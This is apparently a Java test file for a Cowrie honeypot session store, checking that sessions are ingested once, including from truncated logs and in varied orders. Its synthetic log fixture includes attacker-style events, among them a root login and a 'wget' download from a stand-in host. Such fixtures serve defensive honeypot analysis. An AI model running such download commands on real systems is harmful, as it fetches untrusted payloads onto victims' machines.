package io.github.cowriekit.store;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.cowriekit.model.Command;
import io.github.cowriekit.model.Endpoint;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.SessionBuilder;
import io.github.cowriekit.model.SessionEnd;
import io.github.cowriekit.model.SessionRecord;
import io.github.cowriekit.model.intel.EnrichedSession;
import io.github.cowriekit.parser.CowrieLog;
import io.github.cowriekit.store.fixtures.Answers;
import io.github.cowriekit.store.fixtures.Ingest;
import io.github.cowriekit.store.fixtures.RandomSessions;
import io.github.cowriekit.store.fixtures.Recount;
import io.github.cowriekit.store.fixtures.Stores;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** A session is in a store once, whichever way it comes. */
class IngestTest {
    private static final long SEED = Long.getLong("cowrie.seed", 20_261_131L);
    private static final Instant START = Instant.parse("2026-03-01T10:00:00.123456Z");

    private final RandomSessions generator = new RandomSessions(SEED);

    @ParameterizedTest
    @EnumSource
    void addsTheSameSessionsOnce(Stores kind) {
        List<SessionRecord> sessions = generator.next(300);
        Stores.Place place = kind.place();
        try (SessionStore store = place.open()) {
            assertThat(store.ingest(sessions.stream())).isEqualTo(new IngestSummary(300, 0, 0));
            assertThat(store.ingest(sessions.stream())).isEqualTo(new IngestSummary(0, 0, 300));
            Answers.assertHolds(store, new Recount(sessions));
        }
        try (SessionStore store = place.open()) {
            assertThat(store.ingest(sessions.stream())).isEqualTo(new IngestSummary(0, 0, 300));
            Answers.assertHolds(store, new Recount(sessions));
        }
    }

    @ParameterizedTest
    @EnumSource
    void replacesTheSessionsWithinWhichALogWasCut(Stores kind) {
        byte[] whole = log(120);
        List<EnrichedSession> sessions = parse(whole);
        for (int percent : new int[] {20, 55, 90}) {
            List<EnrichedSession> cut = parse(Arrays.copyOf(whole, whole.length * percent / 100));
            long within = cut.stream()
                    .filter(session -> session.session().end() != SessionEnd.CLOSED)
                    .count();
            assertThat(within).isBetween(5L, 60L);
            try (SessionStore store = kind.open()) {
                assertThat(store.ingest(cut.stream())).isEqualTo(new IngestSummary(cut.size(), 0, 0));
                assertThat(store.ingest(sessions.stream()))
                        .isEqualTo(new IngestSummary(sessions.size() - cut.size(), within, cut.size() - within));
                Answers.assertHolds(store, new Recount(sessions));

                assertThat(store.ingest(cut.stream())).isEqualTo(new IngestSummary(0, 0, cut.size()));
                Answers.assertHolds(store, new Recount(sessions));
            }
        }
    }

    @ParameterizedTest
    @EnumSource
    void keepsTheFullestCopyWithinABatch(Stores kind) {
        List<SessionRecord> sessions = generator.next(100);
        List<SessionRecord> given = new ArrayList<>();
        for (SessionRecord session : sessions) {
            SessionRecord cut = generator.cut(session);
            given.addAll(given.size() % 2 == 0 ? List.of(cut, session, session) : List.of(session, cut, cut));
        }
        try (SessionStore store = kind.open()) {
            assertThat(store.ingest(given.stream())).isEqualTo(new IngestSummary(100, 0, 200));
            Answers.assertHolds(store, new Recount(sessions));
        }
    }

    @ParameterizedTest
    @EnumSource
    void takesTheAddressThatACutSessionLacked(Stores kind) {
        Session cut = session("0a", START).source(Endpoint.UNKNOWN).build();
        Session same = session("0b", START.plusSeconds(1))
                .commands(List.of(new Command(null, "id", false, null)))
                .build();
        Session whole = session("0a", START)
                .commands(List.of(new Command(null, "id", false, null)))
                .eventCounts(Map.of("cowrie.command.input", 1L))
                .build();
        try (SessionStore store = kind.open()) {
            Ingest.each(store, Stream.of(cut, same, whole));

            Answers.assertHolds(
                    store,
                    new Recount(Stream.of(whole, same).map(EnrichedSession::of).toList()));
        }
    }

    @ParameterizedTest
    @EnumSource
    @Tag("slow")
    void isTheSameAfterManySmallCommits(Stores kind) {
        List<SessionRecord> sessions = generator.next(400);
        List<SessionRecord> oldestFirst = new Recount(sessions).sessions();
        List<SessionRecord> newestFirst = new ArrayList<>(oldestFirst);
        Collections.reverse(newestFirst);
        for (List<SessionRecord> order : List.of(oldestFirst, newestFirst, sessions, late(oldestFirst))) {
            Stores.Place place = kind.place();
            try (SessionStore store = place.open()) {
                assertThat(Ingest.inParts(store, order, 1)).isEqualTo(new IngestSummary(400, 0, 0));
                Answers.assertHolds(store, new Recount(sessions));
                // an entry takes about seven bytes and a row is filled up to 512, so this is a quarter of what fits
                assertThat(place.number("SELECT count(*) FROM posting"))
                        .isLessThan(place.number("SELECT sum(1 + sessions / 18) FROM subject WHERE sessions > 1"));
            }
        }
    }

    /** One half and then the other: another sensor's log, or an old one that is added later. */
    private static List<SessionRecord> late(List<SessionRecord> sessions) {
        List<SessionRecord> late = new ArrayList<>(sessions);
        Collections.rotate(late, sessions.size() / 2);
        return late;
    }

    private static SessionBuilder session(String id, @Nullable Instant start) {
        return Session.builder(id, SessionEnd.CLOSED)
                .sensor("one")
                .source(new Endpoint("198.51.100.1", 4_000))
                .startedAt(start);
    }

    private static byte[] log(int sessions) {
        List<String> lines = new ArrayList<>();
        for (int moment = 0; moment < sessions + 20; moment++) {
            for (int step = 0; step < 5; step++) {
                int session = moment - step * 5;
                if (session >= 0 && session < sessions) {
                    lines.add(line(session, moment * 5 + step, STEPS.get(step).formatted(session % 10)));
                }
            }
        }
        return (String.join("\n", lines) + "\n").getBytes(StandardCharsets.UTF_8);
    }

    private static final List<String> STEPS = List.of(
            "\"cowrie.session.connect\",\"protocol\":\"ssh\",\"src_ip\":\"198.51.100.%d\",\"src_port\":4000",
            "\"cowrie.login.success\",\"username\":\"root\",\"password\":\"pass%d\"",
            "\"cowrie.command.input\",\"input\":\"uname -a %d\"",
            "\"cowrie.command.input\",\"input\":\"wget http://203.0.113.%d/x\"",
            "\"cowrie.session.closed\",\"duration\":12.%d");

    private static String line(int session, int second, String event) {
        return "{\"session\":\"%012x\",\"sensor\":\"one\",\"timestamp\":\"%s\",\"eventid\":%s}"
                .formatted(session, START.plusSeconds(second), event);
    }

    private static List<EnrichedSession> parse(byte[] log) {
        try (Stream<Session> sessions = CowrieLog.from("log", new ByteArrayInputStream(log))
                .onProblem(problem -> {})
                .sessions()) {
            return sessions.map(EnrichedSession::of).toList();
        }
    }
}
